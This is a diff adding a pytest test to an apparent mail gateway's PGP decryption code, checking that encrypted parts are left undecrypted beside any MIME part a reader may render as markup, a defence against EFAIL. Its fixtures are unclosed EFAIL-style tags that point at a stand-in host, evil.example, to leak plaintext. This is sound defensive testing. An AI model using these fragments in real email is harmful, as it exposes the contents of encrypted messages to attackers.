@@ -294,6 +294,36 @@ def test_encrypted_part_beside_html_is_not_decrypted(world, run):
     assert len(notices) == 1
 
 
+MARKUP_SIBLINGS = [
+    ("application/xhtml+xml", b'<html xmlns="http://www.w3.org/1999/xhtml"><body><img src="http://evil.example/?'),
+    ("image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://evil.example/?'),
+    ("text/x-amp-html", b'<html amp4email><body><amp-img src="http://evil.example/?'),
+    ("text/xml", b'<?xml-stylesheet href="http://evil.example/?'),
+    ("text/enriched", b"<bold>"),
+    ("TEXT/HTML; charset=utf-8", b'<img src="http://evil.example/?'),
+    ("message/rfc822\nContent-Transfer-Encoding: base64",           # a reader decodes and shows it
+     b"Q29udGVudC1UeXBlOiB0ZXh0L2h0bWwKCjxpbWcgc3JjPSJodHRwOi8vZXZpbC5leGFtcGxlLz8K"),
+]
+
+
+@pytest.mark.parametrize("content_type, markup", MARKUP_SIBLINGS, ids=lambda x: str(x)[:20])
+@pytest.mark.parametrize("inline", [False, True], ids=["pgp-mime", "inline"])
+def test_nothing_is_decrypted_beside_anything_a_reader_renders_as_markup(world, run, content_type, markup,
+                                                                         inline):
+    """Not only text/html: every part a reader may render as markup, or that may hide one."""
+    armor = world.outsider.encrypt(b"Content-Type: text/plain\r\n\r\nthe plaintext\r\n", "gw@b.example")
+    encrypted = (b"Content-Type: text/plain\n\n" + armor) if inline else pgp_mime(armor, head=b"")
+    data = (HEAD + b'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="efail"\n\n--efail\n'
+            + f"Content-Type: {content_type}\n\n".encode() + markup + b"\n--efail\n" + encrypted
+            + b"\n--efail--\n")
+    decrypted, _, notices = run(decrypter(world), data)
+    assert b"the plaintext" not in decrypted and armor.strip() in decrypted
+    [result] = field(decrypted, "X-ispMailGate-PGP-Result")
+    assert "EFAIL" in result and len(notices) == 1
+    plain = data.replace(f"Content-Type: {content_type}\n".encode(), b"Content-Type: text/plain\n")
+    assert b"the plaintext" in run(decrypter(world), plain)[0]        # beside plain text: decrypted
+
+
 # -- what cannot be decrypted ------------------------------------------------------------------
 
 def foreign(world) -> bytes:
